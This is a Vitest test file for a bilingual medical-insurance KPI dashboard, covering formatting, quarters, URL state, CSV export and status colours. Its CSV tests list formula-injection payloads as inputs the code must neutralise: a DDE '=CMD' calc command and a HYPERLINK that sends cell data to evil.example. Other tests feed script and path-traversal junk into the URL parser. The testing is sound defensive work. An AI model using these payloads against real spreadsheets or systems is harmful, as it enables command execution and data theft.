import { describe, expect, it } from "vitest";
import { tableCsv } from "../src/components/RegionTable";
import type { Metric } from "../src/lib/api";
import { commonRange, domainQuery, orderDomains } from "../src/lib/api";
import { BOM, csvField, neutraliseFormula, parseCsv, toCsv } from "../src/lib/csv";
import { formatBare, formatBase, formatChange, formatValue } from "../src/lib/format";
import { domainLabel, messages, rememberDomainNames } from "../src/lib/i18n";
import { decodeToken } from "../src/lib/jwt";
import {
  changeGoodness,
  displayStatus,
  STATUS_COLOR,
  statusColor,
  targetRelation,
  UNJUDGED_COLOR,
} from "../src/lib/kpi";
import { addQuarters, currentQuarter, quarterLabel, quarterRange } from "../src/lib/quarters";
import { DEFAULT_VIEW, parseView, serializeView } from "../src/lib/urlState";

describe("formatting (as bureaus write numbers)", () => {
  // units and decimals as the catalogue declares them (Metric.unit, unitEn, precision)
  const RATE = { unit: "%", unitEn: "%", precision: 2 };
  const WAN = { unit: "万元", unitEn: "×10k yuan", precision: 2 };
  const PERSONS = { unit: "人", unitEn: "persons", precision: 0 };
  it("writes rates with two decimals and %", () => {
    expect(formatValue(97.1234, RATE)).toBe("97.12%");
    expect(formatValue(95.385, RATE, "en")).toBe("95.39%");
    expect(formatValue(100, RATE)).toBe("100.00%");
  });
  it("writes money in 万元 with two decimals and thousands separators", () => {
    expect(formatValue(12345.678, WAN)).toBe("12,345.68 万元");
    expect(formatValue(97.17, WAN, "en")).toBe("97.17 ×10k yuan");
  });
  it("writes counts with separators and no decimals", () => {
    expect(formatValue(1234567, PERSONS)).toBe("1,234,567 人");
    expect(formatValue(1234567, PERSONS, "en")).toBe("1,234,567 persons");
    expect(formatBare(1234567.4, PERSONS)).toBe("1,234,567");
  });
  it("writes a unit and decimals the metric declares, with no table in the dashboard", () => {
    const months = { unit: "月", unitEn: "months", precision: 1 };
    expect(formatValue(8.44, months)).toBe("8.4 月");
    expect(formatValue(8.44, months, "en")).toBe("8.4 months");
    expect(formatBare(8.44, months, "en")).toBe("8.4");
  });
  it("shows a dash for a missing value", () => {
    expect(formatValue(null, RATE)).toBe("—");
    expect(formatValue(Number.NaN, RATE)).toBe("—");
    expect(formatBase(undefined)).toBe("—");
  });
  it("writes rate changes in percentage points, others relative", () => {
    expect(formatChange(96.5, 95.3, "%")).toEqual({ text: "+1.20 个百分点", direction: "up" });
    expect(formatChange(95.3, 96.5, "%", "en")).toEqual({ text: "−1.20 pp", direction: "down" });
    expect(formatChange(110, 100, "万元")).toEqual({ text: "+10.00%", direction: "up" });
    expect(formatChange(5, 5, "人")?.direction).toBe("flat");
    expect(formatChange(5, 0, "人")).toBeNull();
    expect(formatChange(null, 3, "%")).toBeNull();
  });
  it("shows numerators in base units", () => {
    expect(formatBase(8748900)).toBe("8,748,900");
    expect(formatBase(2463.5)).toBe("2,463.50");
  });
});

describe("quarters", () => {
  it("counts, labels and ranges quarters", () => {
    expect(addQuarters("2024Q1", -1)).toBe("2023Q4");
    expect(addQuarters("2023Q4", 4)).toBe("2024Q4");
    expect(quarterRange("2023Q3", "2024Q2")).toEqual(["2023Q3", "2023Q4", "2024Q1", "2024Q2"]);
    expect(quarterLabel("2023Q1", "zh")).toBe("2023年第一季度");
    expect(quarterLabel("2023Q1", "en")).toBe("2023 Q1");
    expect(currentQuarter(new Date(2026, 10, 23))).toBe("2026Q4");
  });
  it("ends the default range where every reporting domain has data", () => {
    // each domain's latest reported quarter: enrollment 2024Q4, supervision 2026Q3, one down (null)
    expect(commonRange(["2024Q4", "2026Q3", null])).toEqual({ from: "2024Q1", to: "2024Q4" });
    expect(commonRange(["2022Q1"])).toEqual({ from: "2021Q2", to: "2022Q1" });
    expect(commonRange([null, null])).toBeNull();
  });
});

describe("URL state", () => {
  it("round-trips the whole view", () => {
    const v = {
      ...DEFAULT_VIEW,
      region: "150724",
      from: "2024Q1",
      to: "2024Q4",
      kpi: "enrollment.rate",
      tab: "table" as const,
      lang: "en" as const,
      cols: ["enrollment.rate", "enrollment.subsidy_amount"],
    };
    const s = serializeView(v);
    expect(s).toBe(
      "?region=150724&from=2024Q1&to=2024Q4&kpi=enrollment.rate&tab=table&cols=enrollment.rate%2Cenrollment.subsidy_amount&lang=en",
    );
    expect(parseView(s)).toEqual(v);
  });
  it("leaves defaults out and rejects junk", () => {
    expect(serializeView(DEFAULT_VIEW)).toBe("");
    expect(parseView("?region=abc&from=2024Q5&to=2024Q1&tab=x&lang=fr&kpi=<script>")).toEqual(DEFAULT_VIEW);
  });
  it("round-trips the reporting pages' state and rejects junk there too", () => {
    const v = {
      ...DEFAULT_VIEW,
      page: "entry" as const,
      form: "enrollment",
      unit: "150724",
      quarter: "2025Q1",
    };
    expect(serializeView(v)).toBe("?page=entry&form=enrollment&quarter=2025Q1&unit=150724");
    expect(parseView(serializeView(v))).toEqual(v);
    const a = { ...DEFAULT_VIEW, page: "approvals" as const, domain: "enrollment", quarter: "2025Q1" };
    expect(parseView(serializeView(a))).toEqual(a);
    const i = { ...DEFAULT_VIEW, page: "import" as const, kind: "vbp-progress" };
    expect(parseView(serializeView(i))).toEqual(i);
    expect(parseView("?page=admin&form=<x>&unit=1&quarter=2025Q9&kind=../x")).toEqual(DEFAULT_VIEW);
  });
  it("puts a reversed range in order", () => {
    const v = parseView("?from=2024Q4&to=2024Q1");
    expect([v.from, v.to]).toEqual(["2024Q1", "2024Q4"]);
  });
});

describe("CSV export", () => {
  it("starts with a BOM, uses CRLF and quotes where needed", () => {
    const csv = toCsv(
      ["地区名称", "参保率 (%)"],
      [
        ["鄂温克族自治旗", "97.12"],
        ['a "b", c', null],
      ],
    );
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv).toBe(`${BOM}地区名称,参保率 (%)\r\n鄂温克族自治旗,97.12\r\n"a ""b"", c",\r\n`);
    expect(parseCsv(csv)).toEqual([
      ["地区名称", "参保率 (%)"],
      ["鄂温克族自治旗", "97.12"],
      ['a "b", c', ""],
    ]);
  });
  it("defuses formulas but keeps negative numbers", () => {
    expect(csvField("=HYPERLINK(1)")).toBe("'=HYPERLINK(1)");
    expect(csvField("-1.50")).toBe("-1.50");
    expect(csvField(3)).toBe("3");
  });
  it("neutralises the usual formula-injection list (issue 14): a leading ' unless a plain number", () => {
    const cases: [string, string][] = [
      ["=CMD|' /C calc'!A0", "'=CMD|' /C calc'!A0"],
      ["+1+1", "'+1+1"],
      ["-2+3", "'-2+3"],
      ["@SUM(A1)", "'@SUM(A1)"],
      ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`],
      ["=1+2;=3", "'=1+2;=3"],
      ["-", "'-"],
      ["+", "'+"],
      ["-1e5+cmd", "'-1e5+cmd"],
      ["\t=1+1", "'\t=1+1"],
      ["\tplain", "'\tplain"],
      ["\r=1+1", "'\r=1+1"],
      // plain numbers stay numbers
      ["-12.5", "-12.5"],
      ["-0", "-0"],
      ["+3", "+3"],
      ["-0.00", "-0.00"],
      ["-.5", "-.5"],
      ["1e-5", "1e-5"],
      ["97.12", "97.12"],
      // text that does not start a formula is unchanged, Chinese included
      ["鄂温克族自治旗", "鄂温克族自治旗"],
      ["呼伦贝尔市 = 150700", "呼伦贝尔市 = 150700"],
      ["a-b", "a-b"],
      ["", ""],
    ];
    for (const [input, out] of cases) expect([input, neutraliseFormula(input)]).toEqual([input, out]);
    // in the file: quoted where needed, and read back as the neutralised text
    const csv = toCsv(
      ["地区名称", "值"],
      [
        ["=CMD|' /C calc'!A0", "-12.5"],
        ["\r=1+1", -0.5],
        ["-2+3", "鄂温克族自治旗"],
      ],
    );
    expect(csv).toBe(
      `${BOM}地区名称,值\r\n'=CMD|' /C calc'!A0,-12.5\r\n"'\r=1+1",-0.5\r\n'-2+3,鄂温克族自治旗\r\n`,
    );
    expect(parseCsv(csv).slice(1)).toEqual([
      ["'=CMD|' /C calc'!A0", "-12.5"],
      ["'\r=1+1", "-0.5"],
      ["'-2+3", "鄂温克族自治旗"],
    ]);
  });
});

describe("token and schema helpers", () => {
  it("decodes a JWT payload for display only", () => {
    const payload = Buffer.from(
      JSON.stringify({ sub: "u", name: "呼伦贝尔市医疗保障局", scope: "150700", roles: ["viewer"], exp: 1 }),
    ).toString("base64url");
    expect(decodeToken(`x.${payload}.y`)).toEqual({
      sub: "u",
      name: "呼伦贝尔市医疗保障局",
      scope: "150700",
      roles: ["viewer"],
      exp: 1,
    });
    expect(decodeToken("not a token")).toBeNull();
    expect(decodeToken("a.b!.c")).toBeNull();
  });
  it("orders the domains the graph announces: the known four first, a new one after, nonsense dropped", () => {
    expect(
      orderDomains(["supervision", "fund", "enrollment", "payment", "procurement", "x { evil }"]),
    ).toEqual(["enrollment", "procurement", "payment", "supervision", "fund"]);
  });
  it("labels a domain as the graph names it (Query.domains), else by its built-in translation", () => {
    expect(domainLabel("fund", "zh")).toBe("fund");
    rememberDomainNames([{ name: "fund", nameZh: "基金与待遇", nameEn: "Fund and benefits" }]);
    expect(domainLabel("fund", "zh")).toBe("基金与待遇");
    expect(domainLabel("fund", "en")).toBe("Fund and benefits");
    expect(domainLabel("payment", "zh")).toBe("支付方式改革");
  });
  it("batches the catalogue, the region and its children into one operation per domain", () => {
    const q = domainQuery("procurement");
    expect(q).toContain("procurementMetrics");
    // The region's kpis (with the graph's 环比 / 同比 totals) and the children's: no trend window.
    expect(q.match(/procurementKpis\(/g)).toHaveLength(2);
    expect(q).not.toContain("trend");
    expect(() => domainQuery("x { evil }")).toThrow();
  });
});

describe("status colours", () => {
  it("shows a metric without a target neutral rather than green, and keeps judged colours", () => {
    expect(statusColor("MET", null)).toBe(UNJUDGED_COLOR);
    expect(statusColor("MET", 95)).toBe(STATUS_COLOR.MET);
    expect(statusColor("MISSED", 95)).toBe(STATUS_COLOR.MISSED);
    expect(statusColor("NO_DATA", null)).toBe(STATUS_COLOR.NO_DATA);
  });
  it("shows NO_TARGET as 无目标 / No target, neutrally, never as 达标 / Met (issue 15)", () => {
    expect(statusColor("NO_TARGET", null)).toBe(UNJUDGED_COLOR);
    expect(displayStatus("NO_TARGET", null)).toBe("NO_TARGET");
    expect(displayStatus("MET", null)).toBe("NO_TARGET");
    expect(displayStatus("NO_DATA", null)).toBe("NO_DATA");
    expect(displayStatus("MET", 95)).toBe("MET");
    expect(messages("zh").statusNO_TARGET).toBe("无目标");
    expect(messages("en").statusNO_TARGET).toBe("No target");
  });

  const metric = (over: Partial<Metric>): Metric => ({
    id: "procurement.purchase_amount",
    domain: "procurement",
    nameZh: "药品耗材采购总金额",
    nameEn: "Purchases",
    unit: "万元",
    unitEn: "×10k yuan",
    precision: 2,
    numeratorZh: "",
    numeratorEn: "",
    denominatorZh: null,
    denominatorEn: null,
    aggregation: "FLOW",
    target: null,
    higherIsBetter: true,
    direction: "NEUTRAL",
    targetRule: "NONE",
    ...over,
  });

  it("colours changes by direction: NEUTRAL amounts never good or bad", () => {
    expect(changeGoodness("up", metric({}))).toBe("flat");
    expect(changeGoodness("up", metric({ direction: "UP" }))).toBe("good");
    expect(changeGoodness("up", metric({ direction: "DOWN", higherIsBetter: false }))).toBe("bad");
    expect(changeGoodness("down", metric({ direction: undefined, higherIsBetter: true }))).toBe("bad");
  });

  it("states the target by its rule", () => {
    expect(targetRelation(metric({ targetRule: "AT_MOST" }))).toBe("≤");
    expect(targetRelation(metric({ targetRule: "BAND", targetLow: 95, targetHigh: 105 }))).toBe("band");
    expect(targetRelation(metric({ targetRule: "ELAPSED" }))).toBe("elapsed");
    expect(targetRelation(metric({ targetRule: "AT_LEAST" }))).toBe("≥");
  });

  it("writes each metric's status next to its value in the CSV (无目标, not 达标)", () => {
    const m = metric({});
    const rate = metric({
      id: "enrollment.rate",
      nameZh: "参保率",
      unit: "%",
      unitEn: "%",
      target: 95,
      targetRule: "AT_LEAST",
    });
    const csv = parseCsv(
      tableCsv(
        [
          {
            code: "150724",
            name: "鄂温克族自治旗",
            values: {
              [m.id]: { value: 478.19, status: "NO_TARGET" },
              [rate.id]: { value: 97.12, status: "MET" },
            },
          },
        ],
        [rate, m],
        messages("zh"),
        "zh",
      ),
    );
    expect(csv[0]).toEqual([
      "地区名称",
      "区划代码",
      "参保率 (%)",
      "参保率 状态",
      "药品耗材采购总金额 (万元)",
      "药品耗材采购总金额 状态",
    ]);
    expect(csv[1]).toEqual(["鄂温克族自治旗", "150724", "97.12", "达标", "478.19", "无目标"]);
  });
});
